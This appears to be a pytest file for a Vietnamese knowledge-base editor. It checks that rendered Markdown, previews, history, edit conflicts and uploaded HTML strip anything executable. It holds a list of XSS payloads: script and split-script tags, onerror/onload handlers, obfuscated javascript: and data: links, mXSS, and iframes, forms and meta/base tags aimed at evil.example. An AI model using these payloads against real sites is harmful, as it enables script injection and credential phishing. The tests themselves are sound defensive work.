"""Hostile Markdown and HTML: nothing executable reaches any page the editor touches."""
from __future__ import annotations

import html
import io
import re
from html.parser import HTMLParser

import pytest

from kb.documents.render import render_markdown
from tests.kb.test_editor import editor_app, form_fields, lan, minh, submit, write  # noqa: F401

HOSTILE = {
    "script": '<script>alert("xss")</script>',
    "split script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "onerror": "<img src=x onerror=alert(1)>",
    "svg onload": "<svg onload=alert(1)><circle r=5></circle></svg>",
    "markdown javascript link": "[bấm vào đây](javascript:alert(1))",
    "mixed case": "[bấm](JaVaScRiPt:alert(1))",
    "entity encoded": '<a href="jav&#x61;script:alert(1)">mã hóa</a>',
    "decimal entities": '<a href="&#106;&#97;vascript:alert(1)">mã hóa 2</a>',
    "tab inside scheme": '<a href="java\tscript:alert(1)">tab</a>',
    "data url": "[tải](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    "form": '<form action="https://evil.example/"><input name="mat_khau"><button>Gửi</button></form>',
    "style url": '<div style="background:url(javascript:alert(1))">nền</div>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base": '<base href="https://evil.example/">',
    "mxss": "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "image link": "![ảnh](javascript:alert(1))",
}
# The only forms our pages may contain, and the schemes links may use.
OWN_FORM_ACTIONS = ("/edit/", "/login", "/logout", "/search", "/review/", "/history/", "/delete/", "/trash/",
                    "/doc/", "/collections/")
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
# How a browser reads a URL's scheme: tabs and newlines anywhere are dropped, then a leading
# "letters:" is the scheme (with spaces or other characters before ":" the URL is relative).
_SCHEME_RE = re.compile(r"^[a-z][a-z0-9+.-]*(?=:)")
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "base", "meta", "style", "frame"}


class _Inspector(HTMLParser):
    """Everything executable or navigational in a page, after the browser's own entity decoding."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._data_block = False

    def handle_starttag(self, tag, attrs):
        harmless = ((tag == "meta" and all(k in ("charset", "name", "content") for k, _ in attrs))
                    or (tag == "style" and not attrs)  # the editor's own stylesheet block
                    or (tag == "script" and attrs == [("type", "application/ld+json")]))  # data only
        self._data_block = tag == "script" and harmless
        if tag in DANGEROUS_TAGS and not harmless:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name == "style":
                self.problems.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action", "formaction", "data", "xlink:href"):
                flat = re.sub(r"[\t\n\r]", "", html.unescape(value)).strip("\x00 \x0c").lower()
                scheme = _SCHEME_RE.match(flat)
                if scheme and scheme[0] not in SAFE_SCHEMES:
                    self.problems.append(f"{tag} {name}={value}")
                if tag == "form" and not value.startswith(OWN_FORM_ACTIONS):
                    self.problems.append(f"foreign form {value}")

    def handle_data(self, data):
        if self._data_block and "<" in data:
            self.problems.append("markup inside a JSON-LD block")

    def handle_endtag(self, tag):
        self._data_block = False


def assert_inert(page: str) -> None:
    """Fail if ``page`` has a script, event handler, dangerous URL, frame, plugin or foreign form."""
    inspector = _Inspector()
    inspector.feed(page)
    assert not inspector.problems, inspector.problems


@pytest.mark.parametrize("name", HOSTILE)
def test_render_markdown_neutralises(name):
    rendered = render_markdown(f"Đoạn văn bình thường.\n\n{HOSTILE[name]}\n\nĐoạn sau.").html
    assert_inert(rendered)
    assert "Đoạn văn bình thường." in rendered


def test_preview_saved_page_history_and_conflict_show_nothing_executable(editor_app, lan, minh):
    body = "## Nội dung thử\n\n[Trang ngoài](https://example.org/)\n\n" + "\n\n".join(HOSTILE.values())
    title = 'Tài liệu <script>alert("tiêu đề")</script> thử'
    preview = submit(lan, "/edit/new", "/edit/new", title=title, body=body, action="preview")
    page = preview.get_data(as_text=True)
    assert preview.status_code == 200 and '<section class="preview"' in page
    assert_inert(page)
    assert 'href="https://example.org/" rel="noopener nofollow"' in page
    assert form_fields(page, "/edit/new")["body"] == body  # the editor's text is kept, escaped

    doc_id = write(lan, title, body, summary='<img src=x onerror=alert("tóm tắt")>',
                   source_publisher='"><script>alert(1)</script>',
                   places="<b onmouseover=alert(1)>Hà Nội</b>")
    assert doc_id == "tai-lieu-script-alert-tieu-de-script-thu"
    for url in (f"/doc/{doc_id}", f"/edit/{doc_id}", "/review", "/"):
        response = lan.get(url)
        assert response.status_code == 200, url
        assert_inert(response.get_data(as_text=True))

    url = f"/edit/{doc_id}"
    stale = form_fields(lan.get(url).get_data(as_text=True), url)
    assert submit(minh, url, url, body=body + "\n\n<script>alert('minh')</script>",
                  action="draft").status_code == 302
    conflict = lan.post(url, data={**stale, "body": body + "\n\n<iframe src=//evil.example>",
                                   "action": "draft"})
    assert conflict.status_code == 409
    assert_inert(conflict.get_data(as_text=True))
    history = lan.get(f"/history/{doc_id}").get_data(as_text=True)
    assert "&lt;script&gt;alert(&#39;minh&#39;)&lt;/script&gt;" in history  # shown as text in the diff
    assert_inert(history)


HOSTILE_HTML = """<html><head><title>Hướng dẫn phòng chống xâm hại trực tuyến</title>
<script>alert(0)</script></head><body><h1>Hướng dẫn phòng chống xâm hại trực tuyến</h1>
<p onclick="alert(1)">Không chia sẻ thông tin cá nhân trên mạng xã hội. <img src=x onerror=alert(2)></p>
<p><a href="jav&#x61;script:alert(3)">Liên kết độc</a> <a href="https://example.org/">trang ngoài</a></p>
<iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name=p></form>
<scr<script>ipt>alert(4)</script><svg onload=alert(5)></svg></body></html>"""
HOSTILE_TEXT = ("Hướng dẫn an toàn trên mạng cho trẻ em\n\nKhông chia sẻ thông tin cá nhân "
                "<script>alert(1)</script><img src=x onerror=alert(2)> "
                '<a href="jav&#x61;script:alert(3)">liên kết</a> '
                '<iframe src="https://evil.example"></iframe>')


@pytest.mark.parametrize("name, data", [("an-toan.html", HOSTILE_HTML), ("an-toan.txt", HOSTILE_TEXT)])
def test_uploaded_html_is_sanitised(editor_app, lan, name, data):
    fields = form_fields(lan.get("/edit/new").get_data(as_text=True), "/edit/upload")
    response = lan.post("/edit/upload", data={**fields, "file": (io.BytesIO(data.encode()), name)},
                        content_type="multipart/form-data")
    assert response.status_code == 302
    doc_id = response.headers["Location"].rsplit("/", 1)[1]
    page = lan.get(f"/doc/{doc_id}").get_data(as_text=True)
    assert "Không chia sẻ thông tin cá nhân" in page
    assert_inert(page)
    assert_inert(lan.get(f"/edit/{doc_id}").get_data(as_text=True))


def test_a_javascript_source_url_is_refused(lan):
    for url in ("javascript:alert(1)", " JAVASCRIPT:alert(1)", "data:text/html,x", "//evil.example"):
        response = submit(lan, "/edit/new", "/edit/new", title="Nguồn độc hại", body="Nội dung.",
                          source_url=url, action="draft")
        assert response.status_code == 400, url
        assert "Địa chỉ nguồn phải bắt đầu bằng http:// hoặc https://." in response.get_data(as_text=True)
